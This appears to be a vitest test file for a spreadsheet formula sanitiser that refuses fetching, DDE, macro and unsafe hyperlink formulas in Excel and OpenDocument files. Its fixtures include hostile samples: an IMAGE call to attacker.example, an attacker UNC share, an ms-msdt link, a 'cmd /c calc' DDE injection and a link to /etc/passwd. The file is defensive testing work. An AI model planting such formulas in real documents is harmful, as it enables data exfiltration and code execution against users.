import { describe, expect, it } from 'vitest';

import { classifyFormula, classifyOdfFormula } from './formulas.ts';

describe('classifyFormula', () => {
  it('refuses formulas that fetch, IMAGE among them, and keeps those that only compute', () => {
    expect(classifyFormula('_xlfn.IMAGE("https://attacker.example/t.png",,1)')).toBe(
      'external-relationship',
    );
    expect(classifyFormula('IMAGE(A1)')).toBe('external-relationship');
    expect(classifyFormula('_xlfn.WEBSERVICE("http://x/")')).toBe('external-relationship');
    expect(classifyFormula('EXEC("calc")')).toBe('xlm-macro');
    // Names that only end or start like one, and the word in a string, are not calls.
    expect(classifyFormula('MYIMAGE(A1)+IMAGES!A1')).toBeUndefined();
    expect(classifyFormula('"IMAGE(x)"&A1')).toBeUndefined();
    expect(classifyFormula('_xlfn.TEXTJOIN(",",TRUE,A1:A3)')).toBeUndefined();
  });

  it('refuses a HYPERLINK whose written target a hyperlink relationship could not keep', () => {
    for (const unsafe of [
      'HYPERLINK("file:///\\\\attacker\\share\\x.exe","Report")',
      'HYPERLINK( "\\\\attacker\\share" )',
      'IF(A1,HYPERLINK("ms-msdt:/id PCWDiagnostic"),0)',
      'HYPERLINK("report.xlsx")',
    ]) {
      expect(classifyFormula(unsafe), unsafe).toBe('external-relationship');
    }
    for (const kept of [
      'HYPERLINK("https://example.com/q?a=1","Open")',
      'HYPERLINK("mailto:"&B2)',
      'HYPERLINK("#Sheet2!A1","Go")',
      'HYPERLINK(A2,B2)',
      '"HYPERLINK(""file://x"")"&A1',
    ]) {
      expect(classifyFormula(kept), kept).toBeUndefined();
    }
  });
});

describe('classifyOdfFormula', () => {
  it('removes OpenFormula calls that fetch or reach DDE, and references into other documents', () => {
    expect(classifyOdfFormula('of:=WEBSERVICE("http://127.0.0.1:9/q")')).toBe(
      'external-relationship',
    );
    expect(classifyOdfFormula('of:=FILTERXML([.B1];"//price")')).toBe('external-relationship');
    expect(classifyOdfFormula('of:=DDE("soffice";"/tmp/b.ods";"Sheet1.A1")')).toBe('dde-link');
    expect(classifyOdfFormula("of:=['file:///tmp/b.ods'#$Sheet1.A1]*2")).toBe(
      'external-relationship',
    );
    expect(classifyOdfFormula("oooc:=['http://x/b.ods'#$Sheet1.A1]")).toBe('external-relationship');
    expect(classifyOdfFormula("msoxl:=cmd|' /c calc'!A0")).toBe('dde-link');
    expect(classifyOdfFormula('of:=HYPERLINK("file:///etc/passwd")')).toBe('external-relationship');
  });

  it('keeps formulas that only compute, whatever their strings and sheet names say', () => {
    for (const kept of [
      'of:=SUM([.A1:.A3])',
      "of:=['Other sheet'.A1]+1",
      'of:="WEBSERVICE(x)"&[.A1]',
      'of:=HYPERLINK("https://example.com/";"site")',
      "of:=[$'My #1 sheet'.B2]",
    ]) {
      expect(classifyOdfFormula(kept), kept).toBeUndefined();
    }
  });
});
